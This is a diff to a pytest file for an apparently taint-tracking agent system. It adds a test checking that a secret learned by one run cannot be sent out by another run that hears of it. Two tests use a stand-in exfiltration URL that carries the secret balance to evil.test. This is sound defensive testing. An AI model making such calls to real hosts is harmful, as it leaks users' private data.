@@ -23,6 +23,7 @@ from protos.v1.message_pb2 import (
     KIND_EVENT,
     KIND_PROSE,
     TAINT_FILE,
+    TAINT_PRIVATE,
     TAINT_WEB,
     TAINT_WORKER,
     Message,
@@ -126,6 +127,20 @@ async def test_what_a_secret_opened_goes_nowhere_else() -> None:
         with pytest.raises(Denied, match="rule marco-with-secrets"):
             async with acting(lab.services, who, replace(act, target="https://evil.test/?balance=7")):
                 pytest.fail("it told somebody else")
+
+
+async def test_what_a_secret_opened_stays_private_in_whoever_is_told_of_it() -> None:
+    async with lab_of(RESIDENTS) as lab:
+        knows, hears = of_run(lab), of_run(lab, run="marco-2")
+        await lab.services.taints.add(knows.bus.identity, {"private"})  # type: ignore[attr-defined]
+        with fail_after(LIMIT_S):
+            answer = await knows.bus.ask(call("echo", "say", text="the balance is 7"))
+            assert names(answer) == {TAINT_WORKER, TAINT_PRIVATE}
+            await hears.bus.history("c")
+        who = Identity("marco", frozenset({"web"}), run="marco-2", conversation="c")
+        with pytest.raises(Denied, match="rule marco-with-secrets"):
+            async with acting(lab.services, who, Act("web.fetch", who.principals, "https://evil.test/?balance=7")):
+                pytest.fail("it told the world")
 
 
 async def test_a_run_of_our_own_says_clean_words_until_it_hears_others() -> None:
